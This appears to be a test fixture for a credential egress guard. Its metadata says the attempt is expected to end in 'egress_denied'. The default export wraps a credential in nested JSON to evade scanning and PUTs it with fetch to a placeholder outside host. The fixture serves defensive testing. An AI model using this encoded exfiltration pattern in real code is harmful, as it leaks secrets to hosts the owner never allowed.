export const attempt = {
  tries: "to send an exposed value to another host as JSON",
  blockedBecause: "requests and responses are searched for the same encodings",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const body = JSON.stringify({ log: JSON.stringify({ key: credentials.KEY }) });
  await fetch(`http://${other}/reached`, { method: "PUT", body });
  return "got through";
};
